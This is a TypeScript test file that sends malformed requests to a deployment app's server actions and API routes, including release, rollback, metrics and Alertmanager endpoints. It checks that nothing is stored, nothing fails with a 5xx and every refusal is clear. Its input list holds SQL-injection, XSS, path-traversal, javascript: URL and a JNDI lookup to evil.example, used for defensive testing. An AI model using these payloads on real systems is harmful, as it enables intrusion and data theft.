import path from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { ACTIONS } from "@/lib/actions/registry";
import type { CurrentUser } from "@/lib/auth/current-user";
import { describe as show, malformedInputs, UNICODE_TRICKS, type MalformedCase } from "@/tests/support/malformed";
import {
  ACTION_SAMPLES,
  callRoute,
  clarityProblem,
  isActionResult,
  loadRoute,
  ROOT,
  ROUTES,
  TRUST_ALERTMANAGER_TOKEN,
  trackWrites,
  trustFixture,
  type RouteHandler,
  type TrustFixture,
} from "@/tests/support/trust";

/*
 * Malformed input to every server action and every API route, as someone who may use them all
 * (every role), so nothing is turned away before validation: nothing may be stored, nothing may
 * fail inside (no INTERNAL result, no 5xx), and every refusal must be a sentence a person can act
 * on. Inputs come from tests/support/malformed.ts, seeded, so a failure reproduces.
 */

const session = vi.hoisted(() => {
  process.env.ALERTMANAGER_TOKEN = "trust-matrix-token-0123456789abcdef"; // TRUST_ALERTMANAGER_TOKEN
  process.env.METRICS_TOKEN = "trust-metrics-token-0123456789abcdef"; // TRUST_METRICS_TOKEN
  process.env.LOG_LEVEL = "silent";
  return { user: null as CurrentUser | null };
});
vi.mock("@/lib/auth/current-user", async (original) => ({
  ...(await original<typeof import("@/lib/auth/current-user")>()),
  getCurrentUser: async () => session.user,
}));
vi.mock("next/cache", () => ({ revalidatePath: () => undefined, revalidateTag: () => undefined }));

let fx: TrustFixture;
let writes: Awaited<ReturnType<typeof trackWrites>>;
const tally = { tried: 0, stored: 0, internal: 0 };

beforeAll(async () => {
  fx = await trustFixture();
  writes = await trackWrites(fx);
  session.user = fx.everyone;
}, 120_000);

afterAll(() => {
  // The sweep's figure for CI logs: how much was thrown at the entry points and what got through.
  console.log(`bad-input ${tally.tried} tried, ${tally.stored} stored, ${tally.internal} 5xx`);
  for (const gap of KNOWN_GAPS) console.log(`known gap (${gapsSeen.get(gap) ?? 0}×) ${gap.where}: ${gap.fix}`);
});

/** Which kind of row an id names, so a field is sent ids of every other kind (forged). */
function idKinds(fx: TrustFixture): Map<string, string> {
  const kinds = new Map<string, string>();
  for (const [key, value] of Object.entries(fx.ids)) kinds.set(value, key.replace(/^other/, "").toLowerCase());
  for (const value of Object.values(fx.approvals)) kinds.set(value, "approval");
  for (const user of [fx.everyone, fx.nobody, ...Object.values(fx.byRole)]) kinds.set(user.id, "user");
  kinds.set(fx.ids.canaryRun, "run");
  kinds.set(fx.ids.staging, "environment");
  kinds.set(fx.ids.production, "environment");
  kinds.set(fx.ids.bystander, "user");
  kinds.set(fx.ids.onCall, "user");
  return kinds;
}
const KIND_BY_FIELD: Record<string, string> = {
  releaseId: "release",
  serviceId: "service",
  environmentId: "environment",
};

type Failure = { what: string; problem: string; message?: string };

/**
 * Gaps the sweep found in code other people are changing as this is written, each with the file
 * that needs the fix. A gap must still reproduce (so a fixed one is taken off this list), and
 * anything not listed fails the test.
 */
const KNOWN_GAPS: { where: string; match: RegExp; fix: string }[] = [];
const gapsSeen = new Map<(typeof KNOWN_GAPS)[number], number>();

/** Failures minus known gaps (counted, so each can be checked to still reproduce). */
function unknown(where: string, failures: Failure[]): Failure[] {
  return failures.filter((f) => {
    const line = f.message === undefined ? `${f.what}: ${f.problem}` : `"${f.message}"`;
    const gap = KNOWN_GAPS.find((g) => g.where === where && g.match.test(line));
    if (gap) gapsSeen.set(gap, (gapsSeen.get(gap) ?? 0) + 1);
    return !gap;
  });
}

/**
 * Failures as printed: anything stored, internal or accepted first, each; unclear messages once per
 * message (one input that got it), since one schema's wording shows up for many inputs.
 */
function report(failures: Failure[]): string[] {
  const serious = failures.filter((f) => f.message === undefined).map((f) => `${f.what}: ${f.problem}`);
  const byMessage = new Map<string, string>();
  for (const f of failures)
    if (f.message !== undefined && !byMessage.has(f.message))
      byMessage.set(f.message, `"${f.message.slice(0, 200)}" ${f.problem} (e.g. ${f.what})`);
  const lines = [...serious, ...byMessage.values()];
  return lines.length <= 40 ? lines : [...lines.slice(0, 40), `…and ${lines.length - 40} more`];
}

describe("malformed input to server actions", () => {
  it.each(ACTIONS.map((a) => [a.name, a] as const))("%s", async (name, action) => {
    const sample = ACTION_SAMPLES[name];
    const run = (await import(path.join(ROOT, `${action.module}.ts`)))[action.exportName] as (
      input: unknown,
    ) => Promise<unknown>;
    const valid = sample.input(fx, fx.everyone);
    const kinds = idKinds(fx);
    const foreignIds = (field: string) => {
      const own = typeof valid[field] === "string" ? kinds.get(valid[field]) : KIND_BY_FIELD[field];
      return own ? [...new Set([...kinds].filter(([, kind]) => kind !== own).map(([id]) => id))] : [];
    };
    const seed = [...name].reduce((h, c) => Math.imul(h ^ c.charCodeAt(0), 16777619) >>> 0, 2166136261);
    const cases: MalformedCase[] = [
      ...malformedInputs(valid, sample.fields, { seed, random: 16, foreignIds }),
      ...(sample.forged?.(fx) ?? []).map((input) => ({ what: `forged ${show(input)}`, input })),
    ];
    expect(cases.length).toBeGreaterThan(40);
    const failures: Failure[] = [];
    await writes.since();
    for (const c of cases) {
      tally.tried++;
      const result = await run(c.input);
      const written = await writes.since();
      if (written.length > 0) {
        tally.stored++;
        failures.push({ what: c.what, problem: `stored (${[...new Set(written)].join(", ")}) → ${show(result)}` });
        continue;
      }
      if (!isActionResult(result)) failures.push({ what: c.what, problem: "not an action result" });
      else if (result.ok) failures.push({ what: c.what, problem: `accepted → ${show(result.data)}` });
      else if (result.error.code === "INTERNAL") {
        tally.internal++;
        failures.push({ what: c.what, problem: "INTERNAL" });
      } else {
        const problem = clarityProblem(result.error.message);
        if (problem) failures.push({ what: c.what, problem, message: result.error.message });
      }
    }
    const left = unknown(name, failures);
    expect(report(left), `${left.length} of ${cases.length} malformed inputs got through`).toEqual([]);
  });
});

const JUNK = [
  "",
  " ",
  "' OR '1'='1",
  "1; DROP TABLE deployment_runs; --",
  "<script>alert(1)</script>",
  'up{job="x"} or vector(1)',
  "../../etc/passwd",
  "%00",
  "a".repeat(5000),
  "\u0000",
  "${jndi:ldap://evil.example/a}",
  "2026-13-45",
  "2026-02-30T25:61:00Z",
  "-100000-01-01",
  "+275760-09-13T00:00:01Z",
  "null",
  "[object Object]",
  ...UNICODE_TRICKS.map((t) => `checkout${t}`),
  "ch\u0435ckout", // Cyrillic е
];

/** Malformed requests per route; each answer must be below 500, write nothing, and explain a refusal. */
function routeCases(fx: TrustFixture): { route: string; method: string; request: Parameters<typeof callRoute>[1] }[] {
  const cases: { route: string; method: string; request: Parameters<typeof callRoute>[1] }[] = [];
  const query = (route: string, base: string, params: readonly string[], extra: Record<string, string> = {}) => {
    for (const param of params)
      for (const value of JUNK) {
        const search = new URLSearchParams({ ...extra, [param]: value });
        cases.push({ route, method: "GET", request: { url: `${base}?${search}`, params: {} } });
      }
    // Repeated parameters arrive as lists.
    cases.push({ route, method: "GET", request: { url: `${base}?${params.map((p) => `${p}=a&${p}=b`).join("&")}` } });
  };
  query("app/api/deployments/export/route.ts", "/api/deployments/export", [
    "service",
    "environment",
    "kind",
    "outcome",
    "person",
    "from",
    "to",
    "before",
    "after",
  ]);
  query("app/api/history/metrics.csv/route.ts", "/api/history/metrics.csv", [
    "range",
    "from",
    "to",
    "service",
    "environment",
    "cursor",
  ]);
  // These two read no parameters: a few junk ones are enough to show that stays so.
  for (const [route, base] of [
    ["app/api/health/route.ts", "/api/health"],
    ["app/api/ready/route.ts", "/api/ready"],
  ])
    for (const value of JUNK.slice(0, 6))
      cases.push({ route, method: "GET", request: { url: `${base}?x=${encodeURIComponent(value)}` } });
  // The metrics read no parameters either; what matters is the authorization header.
  for (const authorization of [
    "Bearer",
    "Bearer  ",
    "Basic dHJ1c3Q6bWV0cmljcw==",
    `Bearer ${"x".repeat(5000)}`,
    "Bearer trust-metrics-token-0123456789abcdef extra",
    "Token trust-metrics-token-0123456789abcdef",
  ])
    cases.push({
      route: "app/api/metrics/route.ts",
      method: "GET",
      request: { url: "/api/metrics?x=%00", init: { headers: { authorization } } },
    });

  const forged = [
    fx.ids.release,
    fx.ids.incident,
    fx.ids.approval,
    fx.ids.actionItem,
    fx.ids.service,
    "c0ffee0000000000",
  ];
  for (const id of [...JUNK, ...forged]) {
    cases.push({
      route: "app/api/runs/[id]/route.ts",
      method: "GET",
      request: { url: `/api/runs/${encodeURIComponent(id)}`, params: { id } },
    });
    cases.push({
      route: "app/api/runs/[id]/stream/route.ts",
      method: "GET",
      request: { url: `/api/runs/${encodeURIComponent(id)}/stream`, params: { id } },
    });
    cases.push({
      route: "app/api/services/[name]/slis/route.ts",
      method: "GET",
      request: {
        url: `/api/services/${encodeURIComponent(id)}/slis?environment=staging&range=1h`,
        params: { name: id },
      },
    });
  }
  for (const param of ["environment", "range"])
    for (const value of JUNK)
      cases.push({
        route: "app/api/services/[name]/slis/route.ts",
        method: "GET",
        request: {
          url: `/api/services/checkout/slis?${new URLSearchParams({ environment: "staging", range: "1h", [param]: value })}`,
          params: { name: "checkout" },
        },
      });

  // /api/v1, with a token of someone holding every role: junk ids, bodies and headers.
  const bearer = { authorization: `Bearer ${fx.apiTokens[fx.everyone.id]}` };
  const json = { ...bearer, "content-type": "application/json" };
  for (const id of [...JUNK, ...forged.filter((f) => f !== fx.ids.release && f !== fx.ids.service)]) {
    const encoded = encodeURIComponent(id);
    for (const [route, method, url] of [
      ["app/api/v1/releases/[id]/route.ts", "GET", `/api/v1/releases/${encoded}`],
      ["app/api/v1/releases/[id]/gate/route.ts", "GET", `/api/v1/releases/${encoded}/gate`],
      ["app/api/v1/releases/[id]/deploy/route.ts", "POST", `/api/v1/releases/${encoded}/deploy`],
      ["app/api/v1/runs/[id]/route.ts", "GET", `/api/v1/runs/${encoded}`],
      ["app/api/v1/services/[id]/route.ts", "GET", `/api/v1/services/${encoded}`],
    ] as const)
      cases.push({ route, method, request: { url, init: { method, headers: bearer }, params: { id } } });
    cases.push({
      route: "app/api/v1/services/[id]/rollback/route.ts",
      method: "POST",
      request: {
        url: `/api/v1/services/${encoded}/rollback`,
        init: { method: "POST", headers: json, body: JSON.stringify({ environment: "staging", reason: "Bad deploy" }) },
        params: { id },
      },
    });
  }
  const v1Post = (route: string, url: string, body: string, headers: Record<string, string> = json) => ({
    route,
    method: "POST",
    request: { url, init: { method: "POST", headers, body }, params: { id: "checkout" } },
  });
  const release = {
    service: "checkout",
    environment: "staging",
    imageRef: "ghcr.io/acme/checkout:1.2.0",
    commitSha: "0123456789abcdef0123456789abcdef01234567",
  };
  for (const raw of ["", "not json", "{", "null", "[]", '"text"', "42", "{}", "\u0000", "x".repeat(200_000)]) {
    cases.push(v1Post("app/api/v1/releases/route.ts", "/api/v1/releases", raw));
    cases.push(v1Post("app/api/v1/services/[id]/rollback/route.ts", "/api/v1/services/checkout/rollback", raw));
  }
  cases.push(v1Post("app/api/v1/releases/route.ts", "/api/v1/releases", JSON.stringify(release), bearer));
  for (const [field, values] of Object.entries({
    service: [...JUNK, null, 5, "no-such-service"],
    environment: [...JUNK, null, ["staging"], "no-such-environment"],
    serviceId: [...JUNK, fx.ids.release, fx.ids.staging],
    imageRef: [...JUNK, null, 1],
    commitSha: [...JUNK, "xyz", "0".repeat(65), 7],
    strategy: ["FAST", "rolling", 1, null],
    changeSummary: [...JUNK, "short", 5],
    links: ["x", [{ label: "a", url: "javascript:alert(1)" }], new Array(11).fill({ label: "l", url: "https://a.b" })],
  }))
    for (const value of values)
      cases.push(
        v1Post("app/api/v1/releases/route.ts", "/api/v1/releases", JSON.stringify({ ...release, [field]: value })),
      );
  for (const [field, values] of Object.entries({
    environment: [...JUNK, null, "no-such-environment"],
    environmentId: [...JUNK, fx.ids.release],
    reason: [...JUNK, "", "ab", "x".repeat(501), null],
  }))
    for (const value of values)
      cases.push(
        v1Post(
          "app/api/v1/services/[id]/rollback/route.ts",
          "/api/v1/services/checkout/rollback",
          JSON.stringify({ environment: "staging", reason: "Errors after the deploy", [field]: value }),
        ),
      );
  for (const authorization of [
    "Bearer",
    "Bearer  ",
    "Basic dHJ1c3Q6bWV0cmljcw==",
    `Bearer ${"x".repeat(5000)}`,
    "glt_",
    `Bearer glt_${"!".repeat(43)}`,
  ])
    cases.push({
      route: "app/api/v1/runs/[id]/route.ts",
      method: "GET",
      request: { url: `/api/v1/runs/${fx.ids.run}`, init: { headers: { authorization } }, params: { id: fx.ids.run } },
    });
  for (const value of JUNK.slice(0, 6))
    cases.push({
      route: "app/api/v1/openapi.json/route.ts",
      method: "GET",
      request: { url: `/api/v1/openapi.json?x=${encodeURIComponent(value)}` },
    });

  const post = (body: string) => ({
    route: "app/api/alerts/alertmanager/route.ts",
    method: "POST",
    request: {
      url: "/api/alerts/alertmanager",
      init: {
        method: "POST",
        headers: { "content-type": "application/json", authorization: `Bearer ${TRUST_ALERTMANAGER_TOKEN}` },
        body,
      },
    },
  });
  const alert = {
    status: "firing",
    labels: { alertname: "HighErrorRate", service: "checkout", environment: "staging" },
    annotations: {},
    startsAt: "2026-12-04T10:00:00Z",
    endsAt: "0001-01-01T00:00:00Z",
    generatorURL: "",
    fingerprint: "0123abcd",
  };
  const envelope = (alerts: unknown, change: Record<string, unknown> = {}) =>
    JSON.stringify({
      version: "4",
      groupKey: "{}:{}",
      status: "firing",
      receiver: "greenlight",
      groupLabels: {},
      commonLabels: {},
      commonAnnotations: {},
      externalURL: "",
      alerts,
      ...change,
    });
  for (const raw of [
    "",
    "not json",
    "{",
    "null",
    "[]",
    '"text"',
    "42",
    "{}",
    `{"version":4}`,
    "\u0000",
    "x".repeat(2_000_000),
  ])
    cases.push(post(raw));
  for (const [field, value] of Object.entries({
    version: ["3", 4, null],
    status: ["burning", 1],
    receiver: [null, 5],
    groupKey: [null, "x".repeat(20_000)],
    truncatedAlerts: [-1, 1.5, "many"],
    commonLabels: ["x", [1], { a: 1 }],
  }))
    for (const v of value as unknown[]) cases.push(post(envelope([alert], { [field]: v })));
  cases.push(
    post(envelope([])),
    post(envelope("alerts")),
    post(envelope([null])),
    post(envelope(new Array(501).fill(alert))),
  );
  for (const [field, values] of Object.entries({
    status: ["burning", null, 1],
    labels: [null, "x", { service: 1 }, { service: "x".repeat(20_000) }],
    annotations: ["x", { a: [1] }],
    startsAt: ["", "not a time", "2026-13-45T00:00:00Z", "2026-12-04", 1733300000, null],
    endsAt: ["soon", 5],
    generatorURL: [5, "x".repeat(5000)],
    fingerprint: ["", null, "' OR 1=1 --", "abc\u202Edef", "a".repeat(129), "<script>"],
  }))
    for (const v of values as unknown[]) cases.push(post(envelope([{ ...alert, [field]: v }])));
  return cases;
}

describe("malformed requests to API routes", () => {
  it("answers every one below 500, stores nothing, and explains each refusal", async () => {
    const cases = routeCases(fx);
    for (const file of Object.keys(ROUTES))
      expect(
        cases.some((c) => c.route === file),
        `${file} gets malformed requests`,
      ).toBe(true);
    const failures: (Failure & { route: string })[] = [];
    await writes.since();
    for (const c of cases) {
      tally.tried++;
      const handler = (await loadRoute(c.route))[c.method] as RouteHandler;
      const { status, body } = await callRoute(handler, c.request);
      const written = await writes.since();
      const what = `${c.method} ${c.request.url.slice(0, 100)} ${String(c.request.init?.body ?? "").slice(0, 80)}`;
      if (written.length > 0) {
        tally.stored++;
        failures.push({ route: c.route, what, problem: `stored (${[...new Set(written)].join(", ")})` });
      }
      if (status >= 500) {
        tally.internal++;
        failures.push({ route: c.route, what, problem: `${status} ${body.slice(0, 200)}` });
      } else if (status >= 400) {
        let message: unknown;
        try {
          // Route handlers answer { error }; /api/v1 answers RFC 9457 problem details.
          const answer = JSON.parse(body) as { error?: unknown; detail?: unknown };
          message = answer.error ?? answer.detail;
        } catch {
          message = body;
        }
        const problem = clarityProblem(message);
        if (problem)
          failures.push({ route: c.route, what, problem: `${status}: ${problem}`, message: String(message) });
      }
    }
    const left = Object.keys(ROUTES).flatMap((file) =>
      unknown(
        file,
        failures.filter((f) => f.route === file),
      ),
    );
    expect(report(left), `${left.length} of ${cases.length} malformed requests`).toEqual([]);
  });
});

describe("known gaps", () => {
  it("each still reproduces (take a fixed one off KNOWN_GAPS)", () => {
    expect(KNOWN_GAPS.filter((gap) => !gapsSeen.has(gap)).map((gap) => `${gap.where}: ${gap.fix}`)).toEqual([]);
  });
});
